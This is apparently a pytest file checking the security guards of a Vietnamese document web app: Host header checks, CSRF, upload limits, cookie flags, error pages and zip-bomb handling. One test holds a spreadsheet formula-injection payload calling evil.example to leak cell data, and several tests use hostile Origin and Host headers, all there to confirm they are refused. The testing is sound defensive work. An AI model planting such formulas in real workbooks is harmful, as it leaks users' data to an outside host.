"""What guards the web page: the Host header, CSRF on every POST, the upload limit (while
the body streams in too), the refusal to open to the network without accounts, errors in
Vietnamese without a traceback."""

from __future__ import annotations

import pytest
from starlette.testclient import TestClient
from webutil import LOCAL, state, token, wait_build, web_client

from kiemdiem_docs.errors import KiemdiemError
from kiemdiem_docs.web import serve


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    return web_client(tmp_path_factory.mktemp("web-safety"), converter=None,
                      max_upload_mb=0.05)


def post_routes(client) -> list[str]:
    return sorted(r.path.replace("{id:int}", "1").replace("{kind}", "cong-van")
                  for r in client.app.app.routes if "POST" in (getattr(r, "methods", None) or ()))


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "10.0.0.5:8000", ""])
def test_a_foreign_host_is_refused(client, host):
    r = client.get("/", headers={"host": host})
    assert r.status_code == 400 and "Địa chỉ trang không đúng" in r.text


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost", "[::1]:8000"])
def test_this_machines_names_are_answered(client, host):
    assert client.get("/", headers={"host": host}).status_code == 200


def test_every_post_wants_the_sessions_csrf_token(client):
    routes = post_routes(client)
    assert set(routes) >= {"/sinh-van-ban", "/so-danh-sach", "/so-dang-ky/1/ban-hanh-lai",
                           "/mau/cong-van", "/dang-nhap", "/dang-xuat"}
    token(client)  # the session has a token: a form without it, or with another, is refused
    for path in routes:
        for form in ({}, {"csrf": "sai"}):
            r = client.post(path, data=form, follow_redirects=False)
            assert r.status_code == 403, (path, form, r.text)
            assert "Phiên làm việc đã hết hạn" in r.text
    assert state(client)["builds"].job is None  # nothing was started


def test_a_token_from_another_session_is_refused(client, tmp_path):
    other = web_client(tmp_path / "other", converter=None)
    theirs = token(other)
    r = client.post("/sinh-van-ban", data={"csrf": theirs}, follow_redirects=False)
    assert r.status_code == 403


def test_an_upload_over_the_limit_is_refused_by_its_length(client):
    big = b"PK\x03\x04" + b"0" * 60_000
    r = client.post("/so-danh-sach", data={"csrf": token(client)},
                    files={"tep": ("a.xlsx", big)})
    assert r.status_code == 413 and "quá lớn" in r.text


def test_an_upload_over_the_limit_is_refused_while_it_streams(client):
    csrf = token(client)
    boundary = "ranh-gioi"

    def body():  # chunked: no length said in advance
        yield (f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n"
               f"--{boundary}\r\nContent-Disposition: form-data; name=\"tep\"; "
               "filename=\"a.xlsx\"\r\n\r\n").encode()
        for _ in range(20):
            yield b"0" * 10_000
        yield f"\r\n--{boundary}--\r\n".encode()

    r = client.post("/so-danh-sach", content=body(),
                    headers={"content-type": f"multipart/form-data; boundary={boundary}"})
    assert r.status_code == 413 and "quá lớn" in r.text
    assert not (client.app.app.state.web.config.danh_sach.parent / "phien-ban").exists()


def test_an_unknown_page_is_said_in_vietnamese(client):
    r = client.get("/khong-co-trang-nay")
    assert r.status_code == 404 and "Không có trang hay tệp này." in r.text
    r = client.delete("/")
    assert r.status_code == 405 and "Traceback" not in r.text


def test_a_fault_is_a_vietnamese_page_and_a_log(client, monkeypatch):
    from kiemdiem_docs.web import round as round_page

    def broken(config):
        raise RuntimeError("hỏng")

    monkeypatch.setattr(round_page, "registered", broken)
    r = TestClient(client.app, base_url=LOCAL, raise_server_exceptions=False).get("/")
    assert r.status_code == 500 and "sự cố không lường trước" in r.text
    assert "Traceback" not in r.text and "RuntimeError" not in r.text
    log = client.app.app.state.web.config.so_dang_ky.parent / "kiemdiem-web-loi.txt"
    assert "RuntimeError" in log.read_text("utf-8")


def test_the_session_cookie_is_httponly_and_samesite(client):
    r = client.get("/", headers={"cookie": ""})
    cookie = r.headers.get("set-cookie", "")
    assert "httponly" in cookie.lower() and "samesite=strict" in cookie.lower()


@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.20", "::"])
def test_serving_to_the_network_without_accounts_is_refused(tmp_path, host):
    ws = web_client(tmp_path / "ws").app.app.state.web.config.root
    with pytest.raises(KiemdiemError, match="chưa có tài khoản"):
        serve(ws, host=host, port=0)


def test_the_base_url_is_this_machine():
    assert LOCAL.startswith("http://127.0.0.1")


def test_the_command_refuses_the_network_without_accounts_before_it_starts(tmp_path):
    from click.testing import CliRunner

    from kiemdiem_docs.cli import cli

    ws = web_client(tmp_path / "ws").app.app.state.web.config.root
    r = CliRunner().invoke(cli, ["-w", str(ws), "serve", "--host", "0.0.0.0"], obj={})
    assert r.exit_code == 1 and "chưa có tài khoản" in r.output
    assert "Trang web của" not in r.output


def test_a_page_elsewhere_gets_nothing_with_an_empty_token(client):
    # A cross-site form sends no cookie (SameSite=Strict): no session, no session token.
    cookieless = TestClient(client.app, base_url=LOCAL)
    for path in post_routes(client):
        r = cookieless.post(path, data={"csrf": "", "xem_truoc": "1"}, follow_redirects=False)
        assert r.status_code == 403, (path, r.status_code)


@pytest.mark.parametrize("headers", [{"origin": "http://evil.example"},
                                     {"sec-fetch-site": "cross-site"},
                                     {"sec-fetch-site": "same-site"}])
def test_a_post_from_another_site_is_refused_even_with_the_token(client, headers):
    before = state(client)["builds"].job
    r = client.post("/sinh-van-ban", data={"csrf": token(client), "xem_truoc": "1"},
                    headers=headers, follow_redirects=False)
    assert r.status_code == 403
    assert state(client)["builds"].job is before
    ok = client.post("/sinh-van-ban", data={"csrf": token(client), "xem_truoc": "1"},
                     headers={"origin": LOCAL, "sec-fetch-site": "same-origin"},
                     follow_redirects=False)
    assert ok.status_code == 303
    wait_build(client)


def test_a_register_book_never_holds_a_formula(tmp_path):
    import openpyxl

    from kiemdiem_docs.book import COLUMNS, write_book

    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
    row = {key: hostile for key, _, _ in COLUMNS} | {"stt": 1, "lan": 1}
    write_book([row], tmp_path / "so.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "so.xlsx").active
    cells = [c for c in sheet[2] if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" and c.value == hostile for c in cells)


@pytest.mark.parametrize("path", ["/van-ban/99999999999999999999999/docx",
                                  "/van-ban/99999999999999999999999"])
def test_a_document_number_past_sqlites_integers_is_not_found(client, path):
    r = client.get(path)
    assert r.status_code == 404 and "Traceback" not in r.text


def test_a_zip_of_thousands_of_entries_is_no_workbook(tmp_path):
    import io
    import zipfile

    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as z:
        for i in range(3000):
            z.writestr(f"{i}.csv", b"")
    client = web_client(tmp_path / "ws", converter=None)
    r = client.post("/so-danh-sach", data={"csrf": token(client)},
                    files={"tep": ("a.zip", data.getvalue())})
    assert r.status_code == 400 and "không phải sổ Excel" in r.text
